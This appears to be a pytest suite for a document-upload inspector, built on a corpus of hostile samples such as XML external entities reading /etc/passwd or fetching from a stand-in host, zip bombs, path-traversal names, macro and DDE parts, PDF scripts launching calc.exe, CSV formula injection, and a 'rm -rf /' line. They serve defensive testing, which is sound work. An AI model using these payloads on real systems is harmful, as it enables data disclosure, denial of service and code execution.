"""What comes in and what must not: the corpus of hostile files, the honest ones beside it, and the limits."""

from __future__ import annotations

import io
import json
import random
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from defusedxml import DTDForbidden, EntitiesForbidden
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, ImageFile

from gongzhi.files import inspection
from gongzhi.files.inspection import Refused
from gongzhi.files.tests import samples as make

MB = 1024 * 1024


def look_into(folder: Path, content: bytes, extension: str, *, under_limits: bool) -> dict[str, str]:
    """What inspection says, in this process, or (slower) in a program of its own with its limits, as the platform
    runs it."""
    source, target = folder / "source", folder / "target"
    source.write_bytes(content)
    target.write_bytes(b"")
    if not under_limits:
        try:
            return {"format": inspection.inspect(source, target, extension)}
        except Refused as refused:
            return {"refused": refused.code, "where": refused.where}
    command = [sys.executable, "-I", inspection.__file__, str(source), str(target), extension]
    answer = subprocess.run(command, capture_output=True, timeout=60, check=False, cwd="/", env={"LC_ALL": "C.UTF-8"})
    try:
        said: dict[str, str] = json.loads(answer.stdout)
    except ValueError:
        return {"refused": "too_complex", "cause": f"exit {answer.returncode}"}
    return said


def nested(depth: int) -> bytes:
    content = make.docx()
    for _ in range(depth):
        content = make.docx(("word/embeddings/inner.docx", content))
    return content


def many_names(count: int) -> bytes:
    return make.pack([*make.docx_members(), *((f"word/media/{at}", b"") for at in range(count))], zipfile.ZIP_STORED)


def nested_boxes(depth: int) -> bytes:
    content = b""
    for _ in range(depth):
        content = make.box(b"moov", content)
    return content


DOCX = make.docx_members()
BODY = "word/document.xml"

#: Name of the case → extension, content, the refusal. All made when the test runs, because some are large.
HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # XML
    "billion laughs in the body": ("docx", lambda: make.replaced(DOCX, BODY, make.laughing()), "xml_entities"),
    "billion laughs in the list of parts": (
        "docx", lambda: make.replaced(DOCX, "[Content_Types].xml", make.laughing()), "xml_entities"
    ),
    "entity that reads a file": (
        "docx",
        lambda: make.replaced(
            DOCX, BODY, '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
        ),
        "xml_entities",
    ),
    "entity that calls home": (
        "xlsx",
        lambda: make.xlsx(("xl/styles.xml", '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://192.0.2.1/x">%x;]><d/>')),
        "xml_entities",
    ),
    "document type without entities": (
        "docx", lambda: make.replaced(DOCX, BODY, '<!DOCTYPE d SYSTEM "http://192.0.2.1/d.dtd"><d/>'), "xml_entities"
    ),
    "quadratic blow-up": (
        "docx",
        lambda: make.replaced(DOCX, BODY, f'<!DOCTYPE d [<!ENTITY a "{"a" * 50000}">]><d>{"&a;" * 50000}</d>'),
        "xml_entities",
    ),
    "entities in another encoding": (
        "docx", lambda: make.replaced(DOCX, BODY, make.laughing().replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")), "xml_entities"
    ),
    "XML that stops in the middle": ("docx", lambda: make.replaced(DOCX, BODY, "<d><p>"), "damaged"),
    "twelve million elements one in another": (
        "docx", lambda: make.replaced(DOCX, BODY, "<a>" * 12_000_000), "*"
    ),
    "one attribute of 100 MB": ("docx", lambda: make.replaced(DOCX, BODY, '<d a="' + "a" * (100 * MB) + '"/>'), "*"),
    # archives
    "zip bomb": ("docx", lambda: make.docx(("word/media/a.bin", bytes(300 * MB))), "unpacks_too_large"),
    "zip bomb of XML": (
        "xlsx", lambda: make.xlsx(("xl/worksheets/sheet2.xml", "<d>" + " " * (60 * MB) + "</d>")), "unpacks_too_large"
    ),
    "zip bomb that says it is small": (
        "docx",
        lambda: make.lying_about_size(make.docx(("word/media/a.bin", bytes(60 * MB))), b"word/media/a.bin", 10),
        "unpacks_too_large",
    ),
    "member longer than it says": (
        "docx", lambda: make.lying_about_size(make.docx(("word/media/a.bin", b"x" * 900)), b"word/media/a.bin", 10), "two_in_one"
    ),
    "zip in a zip": ("docx", lambda: make.docx(("word/media/a.zip", make.pack([("a", "b")]))), "nested_archive"),
    "zip in a zip, called a picture": (
        "docx", lambda: make.docx(("word/media/image1.png", make.pack([("a", "b")]))), "nested_archive"
    ),
    "office file three deep": ("docx", lambda: nested(2), "nested_archive"),
    "bomb in the sheet behind a chart": (
        "docx",
        lambda: make.docx(("word/embeddings/a.xlsx", make.xlsx(("xl/media/a", bytes(60 * MB))))),
        "unpacks_too_large",
    ),
    "65,000 names": ("docx", lambda: many_names(65_000), "too_many_members"),
    "6,000 names": ("docx", lambda: many_names(6_000), "too_many_members"),
    "one member named a thousand times": ("docx", lambda: make.one_byte_many_times("x", 1000), "two_in_one"),
    "symbolic link": ("docx", lambda: make.docx(make.symbolic_link("word/media/a", "/etc/passwd")), "symbolic_link"),
    "encrypted members": ("docx", lambda: make.flagged_as_encrypted(make.docx()), "encrypted"),
    "name that climbs": ("docx", lambda: make.docx(("word/../../../etc/cron.d/x", "x")), "unsafe_member_name"),
    "name with backslashes": ("docx", lambda: make.docx(("..\\..\\x.xml", "<x/>")), "unsafe_member_name"),
    "name from the root": ("docx", lambda: make.docx(("/etc/passwd", "x")), "unsafe_member_name"),
    "name with a drive": ("docx", lambda: make.docx(("C:x", "x")), "unsafe_member_name"),
    "the same name twice": ("docx", lambda: make.docx(("WORD/document.xml", "<x/>")), "two_in_one"),
    "truncated archive": ("docx", lambda: make.docx()[:-30], "damaged"),
    "archive with its middle missing": ("docx", lambda: make.docx()[:60] + make.docx()[90:], "*"),
    "archive with a changed byte": (
        "docx", lambda: make.pack(DOCX, zipfile.ZIP_STORED).replace(b"<w:body>", b"<w:bodY>"), "*"
    ),
    "archive behind something else": ("docx", lambda: b"PK\x03\x04" + bytes(100) + make.docx(), "two_in_one"),
    "archive with a comment at its end": ("docx", lambda: make.docx()[:-2] + b"\x04\x00evil", "damaged"),
    "plain zip called docx": ("docx", lambda: make.pack([("a.exe", b"MZ")]), "*"),
    "jar called docx": ("docx", lambda: make.pack([("META-INF/MANIFEST.MF", b"Main-Class: x"), ("x.class", b"\xca\xfe")]), "not_allowed_kind"),
    # macros and outside objects
    "docm called docx": (
        "docx",
        lambda: make.replaced(DOCX, "[Content_Types].xml", make.content_types("/word/document.xml", make.WORD_MACRO)),
        "macros",
    ),
    "docx with a macro part": ("docx", lambda: make.docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), "macros"),
    "xlsx with a macro sheet": ("xlsx", lambda: make.xlsx(("xl/macrosheets/sheet1.xml", "<x/>")), "macros"),
    "template from elsewhere": (
        "docx",
        lambda: make.docx(
            ("word/_rels/settings.xml.rels", make.relationships(make.link("attachedTemplate", "http://192.0.2.1/x.dotm", "External")))
        ),
        "active_content",
    ),
    "data exchange with a program": (
        "xlsx", lambda: make.xlsx(("xl/externalLinks/externalLink1.xml", '<e xmlns="urn:x"><ddeLink ddeService="cmd"/></e>')), "active_content"
    ),
    "program attached as an object": ("docx", lambda: make.docx(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")), "active_content"),
    "old Word file": ("docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "old_or_encrypted_office"),
    # PDF
    "PDF with a script": ("pdf", lambda: make.pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "active_content"),
    "PDF with a script in disguise": ("pdf", lambda: make.pdf(b"<< /S /J#61vaScript /JS (x) >>"), "active_content"),
    "PDF with a packed script": ("pdf", lambda: make.pdf(make.object_stream(b"1 0 << /S /JavaScript >>")), "active_content"),
    "PDF with a script packed in an odd way": (
        "pdf", lambda: make.pdf(make.object_stream(b"x", b"/Filter [/ASCIIHexDecode /FlateDecode]").replace(b"stream\n", b"stream\n3c", 1)), "active_content"
    ),
    "PDF with hidden packing": ("pdf", lambda: make.pdf(make.object_stream(b"1 0 << /S /JavaScript >>").replace(b"/ObjStm", b"/Obj#53tm")), "active_content"),
    "PDF that packs a bomb": ("pdf", lambda: make.pdf(make.object_stream(bytes(60 * MB))), "unpacks_too_large"),
    "PDF that starts a program": ("pdf", lambda: make.pdf(b"<< /S /Launch /F (calc.exe) >>"), "active_content"),
    "PDF with a file attached": ("pdf", lambda: make.pdf(b"<< /Type /Filespec /EmbeddedFile 5 0 R >>"), "active_content"),
    "PDF under a password": ("pdf", lambda: make.pdf(trailer=b"/Encrypt 9 0 R"), "encrypted"),
    "PDF cut off": ("pdf", lambda: make.pdf()[:-40], "damaged"),
    "PDF and zip in one": ("pdf", lambda: make.pdf() + make.docx(), "two_in_one"),
    "PDF and page in one": ("pdf", lambda: make.pdf(after=b"\n<html><script>alert(1)</script>"), "two_in_one"),
    "script before a PDF": ("pdf", lambda: b"<script>alert(1)</script>" + make.pdf(), "not_allowed_kind"),
    # pictures
    "SVG with a script": ("png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "not_allowed_kind"),
    "pixel flood": ("png", lambda: make.png_that_says(60_000, 60_000), "picture_too_large"),
    "pixels just over the limit": ("png", lambda: make.png_that_says(8000, 5001), "picture_too_large"),
    "pixels promised and not there": ("png", lambda: make.png_that_says(4000, 4000), "damaged"),
    "JPEG cut off": ("jpg", lambda: make.picture("JPEG", (400, 300))[:600], "damaged"),
    "PNG with a wrong checksum": ("png", lambda: make.picture("PNG").replace(b"\x08\x02\x00", b"\x08\x00\x00", 1), "damaged"),
    "only the mark of a picture": ("jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(100), "damaged"),
    "GIF": ("png", lambda: make.picture("GIF", mode="P"), "not_allowed_kind"),
    "page called WebP": ("webp", lambda: b"RIFF\x00\x00\x00\x00WEBP<script>alert(1)</script>", "damaged"),
    # text
    "page called CSV": ("csv", lambda: b"\xef\xbb\xbf  <!DOCTYPE html><script>alert(1)</script>", "not_allowed_kind"),
    "SVG called text": ("txt", lambda: b"<svg onload=alert(1)>", "not_allowed_kind"),
    "program called CSV": ("csv", lambda: b"MZ\x90\x00\x03\x00\x00\x00\x04", "not_allowed_kind"),
    "shell script called text": ("txt", lambda: b"#!/bin/sh\nrm -rf /\n", "not_allowed_kind"),
    "rich text called text": ("txt", lambda: b"{\\rtf1 {\\object\\objdata 01}}", "not_allowed_kind"),
    "formula in a cell": ("csv", "姓名,备注\n王小明,=HYPERLINK(\"http://192.0.2.1\")\n".encode, "formula"),
    "program in a cell": ("csv", lambda: b"a,\"+cmd|' /C calc'!A0\"\n", "formula"),
    "program in a cell behind blanks": ("tsv", lambda: b"a\t  =cmd|' /C calc'!A0\n", "formula"),
    "one cell of 200,000 letters": ("csv", lambda: b"a," + b"x" * 200_000, "damaged"),
    "SVG that calls home": ("svg", lambda: b'<?xml version="1.0"?><svg xmlns:xlink="x"><image xlink:href="http://192.0.2.1/"/></svg>', "not_allowed_kind"),
    "formula behind an invisible mark": ("csv", "\ufeff=1+1,a\n".encode, "formula"),
    # recordings
    "WAV and zip in one": ("wav", lambda: make.wav() + make.docx(), "two_in_one"),
    "WAV with a page behind it": ("wav", lambda: make.wav() + b"<script>alert(1)</script>", "two_in_one"),
    "WAV that says it is longer": ("wav", lambda: make.wav()[:-100], "damaged"),
    "WAV without a sound": ("wav", lambda: b"RIFF\x04\x00\x00\x00WAVE", "no_sound"),
    "WAV of 60,000 channels": ("wav", lambda: make.wav().replace(b"\x01\x00\x01\x00", b"\x01\x00\x60\xea", 1), "no_sound"),
    "MP3 with a page behind it": ("mp3", lambda: make.mp3(after=b"<script>alert(1)</script>"), "two_in_one"),
    "MP3 and zip in one": ("mp3", lambda: make.mp3() + make.docx(), "two_in_one"),
    "MP3 of a tag alone": ("mp3", lambda: make.id3(b"x" * 500), "no_sound"),
    "MP3 whose tag says it is larger": ("mp3", lambda: make.id3(b"x" * 500)[:300] + make.mp3(1), "no_sound"),
    "page with the mark of an MP3": ("mp3", lambda: b"\xff\xfb\x10\x00<script>alert(1)</script>", "no_sound"),
    "Ogg with a picture": ("ogg", lambda: make.ogg(b"\x80theora"), "no_sound"),
    "Ogg of two streams": ("ogg", lambda: make.ogg() + make.ogg(stream=8), "no_sound"),
    "Ogg with a page behind it": ("ogg", lambda: make.ogg() + b"<script>alert(1)</script>", "two_in_one"),
    "Ogg cut off": ("ogg", lambda: make.ogg()[:-5], "damaged"),
    "M4A with a film": ("m4a", lambda: make.m4a(b"soun", b"vide"), "no_sound"),
    "M4A without a track": ("m4a", lambda: make.m4a(b"text"), "no_sound"),
    "M4A with something behind it": ("m4a", lambda: make.m4a() + b"<script>", "damaged"),
    "M4A whose box is longer than the file": ("m4a", lambda: make.m4a()[:-3], "damaged"),
    "M4A boxes one in another ten thousand times": (
        "m4a", lambda: make.box(b"ftyp", b"M4A " + bytes(4)) + nested_boxes(10_000) + make.box(b"mdat", b"x"), "damaged"
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_no_hostile_file_comes_in(case: str, tmp_path: Path) -> None:
    extension, content, code = HOSTILE[case]
    # `*` is for what may fall to one check or another, or to the limits of memory and time.
    said = look_into(tmp_path, content(), extension, under_limits=code == "*")
    assert "refused" in said, said
    assert code in {"*", said["refused"]}, said


def test_memory_is_limited_and_hostile_pictures_take_little(tmp_path: Path) -> None:
    """What is no picture cannot take more than the limit; of pictures the largest peak is read from the kernel."""
    assert inspection.MEMORY < 300 * MB
    measure = (
        "import runpy, sys; runpy.run_path(sys.argv[1])['main'](sys.argv[2:]); print(open('/proc/self/status').read())"
    )
    for case, (extension, content, _code) in HOSTILE.items():
        if extension in {"png", "jpg", "webp"}:
            (tmp_path / "source").write_bytes(content())
            command = [sys.executable, "-I", "-c", measure, inspection.__file__]
            command += [str(tmp_path / "source"), str(tmp_path / "target"), extension]
            said = subprocess.run(command, capture_output=True, text=True, check=True).stdout
            peak = re.search(r"VmHWM:\s+(\d+) kB", said)
            assert peak is not None
            assert int(peak[1]) < 300 * 1024, case


def test_the_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 90


HONEST: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "docx": ("docx", make.docx, "docx"),
    "docx with a picture": ("docx", lambda: make.docx(("word/media/image1.png", make.picture("PNG"))), "docx"),
    "docx with a chart": ("docx", lambda: make.docx(("word/embeddings/sheet.xlsx", make.xlsx())), "docx"),
    "docx without packing": ("docx", lambda: make.pack(DOCX, zipfile.ZIP_STORED), "docx"),
    "xlsx with formulas": ("xlsx", make.xlsx, "xlsx"),
    "xlsx of 200,000 rows": ("xlsx", lambda: make.xlsx(rows=200_000), "xlsx"),
    "xlsx that remembers another": (
        "xlsx",
        lambda: make.xlsx(
            ("xl/externalLinks/_rels/externalLink1.xml.rels", make.relationships(make.link("externalLinkPath", "file:///a.xlsx", "External")))
        ),
        "xlsx",
    ),
    "ofd": ("ofd", make.ofd, "ofd"),
    "pdf": ("pdf", make.pdf, "pdf"),
    "pdf with packed objects": ("pdf", lambda: make.pdf(make.object_stream(b"1 0 << /Type /Font >>")), "pdf"),
    "pdf saved twice": ("pdf", lambda: make.pdf() + b"9 0 obj\n<< >>\nendobj\ntrailer << >>\nstartxref\n9\n%%EOF\r\n", "pdf"),
    "pdf with 4 MB of noise": (
        "pdf", lambda: make.pdf(b"<< /Length 4000000 >>\nstream\n" + random.Random(7).randbytes(4_000_000) + b"\nendstream"), "pdf"
    ),
    "jpeg": ("jpg", lambda: make.picture("JPEG"), "jpeg"),
    "jpeg for print": ("jpeg", lambda: make.picture("JPEG", mode="CMYK"), "jpeg"),
    "png": ("png", lambda: make.picture("PNG", mode="RGBA"), "png"),
    "png with a palette": ("png", lambda: make.picture("PNG", mode="P", transparency=b"\xff\x00"), "png"),
    "webp": ("webp", lambda: make.picture("WEBP"), "webp"),
    "scan of 40 million pixels": ("jpg", lambda: make.picture("JPEG", (8000, 5000)), "jpeg"),
    "csv": ("csv", "姓名,金额\n王小明,-5\n李四,+86 138\n@王五,=\"00123\"\n".encode, "csv"),
    "csv as Excel saves it here": ("csv", lambda: "姓名,金额\n王小明,100\n".encode("gb18030"), "csv"),
    "csv with rare characters": ("csv", lambda: "㐀𠮷,1\n".encode("utf-8-sig"), "csv"),
    "tsv in UTF-16": ("tsv", lambda: "姓名\t金额\n".encode("utf-16"), "tsv"),
    "csv of 20 MB": ("csv", lambda: "某某服务中心,100\n".encode() * 800_000, "csv"),
    "wav": ("wav", make.wav, "wav"),
    "wav with an odd chunk": ("wav", lambda: make.wav(0.2, (b"LIST", b"INFO")), "wav"),
    "mp3": ("mp3", make.mp3, "mp3"),
    "mp3 with tags": ("mp3", lambda: make.mp3(before=make.id3(b"GPS"), after=b"TAG" + bytes(125)), "mp3"),
    "mp3 that stopped in the middle": ("mp3", lambda: make.mp3()[:-30], "mp3"),
    "ogg": ("ogg", make.ogg, "ogg"),
    "ogg vorbis": ("ogg", lambda: make.ogg(b"\x01vorbis"), "ogg"),
    "m4a": ("m4a", make.m4a, "m4a"),
    "wav of 20 MB": ("wav", lambda: make.wav(1250.0), "wav"),
    "csv whose first column is called ID3": ("csv", b"ID3,a\n1,2\n".strip, "csv"),
    "txt": ("txt", "情况说明：\r\n<附件> 见另页".encode, "txt"),
}  # fmt: skip


@pytest.mark.parametrize("case", HONEST)
def test_honest_files_come_in(case: str, tmp_path: Path) -> None:
    """The negative control of the corpus: refusing everything would pass it."""
    extension, content, kind = HONEST[case]
    large = any(word in case for word in ("million", "MB", "200,000"))
    assert look_into(tmp_path, content(), extension, under_limits=large) == {"format": kind}


# --- the reasons are the right ones ---


@pytest.mark.parametrize(
    ("xml", "cause"),
    [
        (make.laughing(), EntitiesForbidden),
        ('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>', EntitiesForbidden),
    ],
)
def test_entities_are_stopped_by_defusedxml_itself(xml: str, cause: type[Exception]) -> None:
    """expat's own limit would stop some of these later; what counts is that ours comes first."""
    with pytest.raises(Refused) as caught:
        inspection.check_office(io.BytesIO(make.replaced(DOCX, BODY, xml)), 1000)
    assert caught.value.code == "xml_entities"
    assert type(caught.value.__cause__) is cause
    assert not isinstance(caught.value.__cause__, DTDForbidden)


def test_a_zip_bomb_is_stopped_early_and_by_real_bytes() -> None:
    content = make.lying_about_size(make.docx(("word/media/a.bin", bytes(100 * MB))), b"word/media/a.bin", 10)
    budget = inspection.Budget(10 * MB)
    with pytest.raises(Refused, match="unpacks_too_large"):
        inspection.check_office(io.BytesIO(content), len(content), budget=budget)
    assert -inspection.CHUNK <= budget.left < 0


def test_a_photo_loses_its_place_its_maker_and_its_comment_and_stands_upright() -> None:
    photo = make.photo_with_place()
    before = Image.open(io.BytesIO(photo))
    assert len(before.getexif()) >= 3  # the control: it was there
    assert before.info["comment"]
    target = io.BytesIO()
    inspection.rewrite_picture(io.BytesIO(photo), target, "jpeg")
    after = Image.open(io.BytesIO(target.getvalue()))
    assert len(after.getexif()) == 0
    assert not {"exif", "comment", "icc_profile", "xmp"} & set(after.info)
    assert b"Maker" not in target.getvalue()
    assert after.size == (before.height, before.width)


@pytest.mark.parametrize(
    ("kind", "content", "length"),
    [
        ("wav", make.wav(0.2, (b"LIST", b"GPS 22.5N")), len(make.wav())),
        ("mp3", make.mp3(before=make.id3(b"GPS 22.5N"), after=b"TAG" + b"GPS".ljust(125)), len(make.mp3())),
        ("m4a", make.m4a(tags=b"GPS 22.5N"), len(make.m4a(tags=b"GPS 22.5N"))),
    ],
    ids=["wav", "mp3", "m4a"],
)
def test_a_recording_loses_its_tags_and_keeps_its_sound(kind: str, content: bytes, length: int) -> None:
    assert b"GPS" in content  # the control: it was there
    target = io.BytesIO()
    inspection.rewrite_recording(content, target, kind)
    assert b"GPS" not in target.getvalue()
    assert len(target.getvalue()) == length
    again = io.BytesIO()
    inspection.rewrite_recording(target.getvalue(), again, kind)
    assert again.getvalue() == target.getvalue()


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_what_was_hidden_behind_a_picture_is_gone(kind: str) -> None:
    target = io.BytesIO()
    inspection.rewrite_picture(io.BytesIO(make.picture(kind) + make.docx()), target, kind.lower())
    assert b"PK" not in target.getvalue()
    assert not zipfile.is_zipfile(target)


def test_a_palette_picture_keeps_what_is_transparent() -> None:
    target = io.BytesIO()
    inspection.rewrite_picture(io.BytesIO(make.picture("PNG", mode="P", transparency=b"\xff\x00")), target, "png")
    pixel = Image.open(target).convert("RGBA").getpixel((0, 0))
    assert isinstance(pixel, tuple)
    assert pixel[3] == 0


@given(st.binary(max_size=3000), st.sampled_from(["pdf", "png", "jpg", "docx", "csv", "txt"]), st.booleans())
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_bytes_make_the_program_fall(tmp_path: Path, noise: bytes, extension: str, marked: bool) -> None:
    marks = {"pdf": b"%PDF-1.7", "png": b"\x89PNG\r\n\x1a\n", "jpg": b"\xff\xd8\xff\xe0", "docx": b"PK\x03\x04"}
    source = tmp_path / "noise"
    source.write_bytes((marks.get(extension, b"") if marked else b"") + noise)
    with suppress(Refused):
        inspection.inspect(source, tmp_path / "out", extension)


@given(st.data())
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_change_to_an_honest_file_makes_the_program_fall(tmp_path: Path, data: st.DataObject) -> None:
    extension, content, _kind = HONEST[
        data.draw(
            st.sampled_from(
                [
                    "docx",
                    "docx with a chart",
                    "xlsx with formulas",
                    "ofd",
                    "pdf",
                    "png",
                    "webp",
                    "jpeg",
                    "wav",
                    "mp3",
                    "ogg",
                    "m4a",
                ]
            )
        )
    ]
    changed = bytearray(content())
    for _ in range(data.draw(st.integers(1, 5))):
        changed[data.draw(st.integers(0, len(changed) - 1))] = data.draw(st.integers(0, 255))
    source = tmp_path / "changed"
    source.write_bytes(changed)
    with suppress(Refused):
        inspection.inspect(source, tmp_path / "out", extension)


def test_a_picture_cut_off_is_refused_whatever_another_library_allows(tmp_path: Path) -> None:
    ImageFile.LOAD_TRUNCATED_IMAGES = True  # as after the first PDF was made
    try:
        said = look_into(tmp_path, make.png_that_says(4000, 4000), "png", under_limits=False)
    finally:
        ImageFile.LOAD_TRUNCATED_IMAGES = False
    assert said.get("refused") == "damaged"
